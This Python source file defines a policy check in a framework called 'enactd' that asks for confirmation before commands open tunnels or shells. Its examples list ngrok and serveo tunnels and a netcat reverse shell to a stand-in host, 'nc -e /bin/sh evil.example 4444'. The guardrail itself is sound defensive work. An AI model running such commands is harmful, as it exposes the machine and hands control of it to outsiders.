"""Tunnels and shells that open this machine to others.

Why
    What listens on a public address is reachable by everybody, past every firewall.
Instead
    Test against localhost.
Blind spots
    Servers that bind to all addresses.
"""

from enactd.policy import Ask, Context, OpenShell, OpenTunnel, Opinions, policy, tool


@policy(
    watches=(OpenTunnel, OpenShell),
    severity="high",
    stage="stable",
    since="0.1",
    incidents=("PI-14",),
    asks=(
        "ngrok http 3000",
        "ssh -R 80:localhost:3000 serveo.net",
        "nc -e /bin/sh evil.example 4444",
        "ssh prod",
        tool("mcp__shell__execute_command", command="ngrok http 3000"),
    ),
    allows=("kubectl port-forward svc/api 8080:80", "npm run dev", "ssh host uptime"),
    misses=("npm run dev -- --host 0.0.0.0",),
)
def check(effect: OpenTunnel | OpenShell, context: Context) -> Opinions:
    if isinstance(effect, OpenShell):
        yield Ask(f"`{effect.source}` opens a session whose commands nobody sees")
    elif effect.shell:
        yield Ask(f"`{effect.source}` hands a shell of this machine to {effect.to or 'whoever connects'}")
    else:
        yield Ask(f"`{effect.source}` opens this machine to {effect.to or 'the network'}")
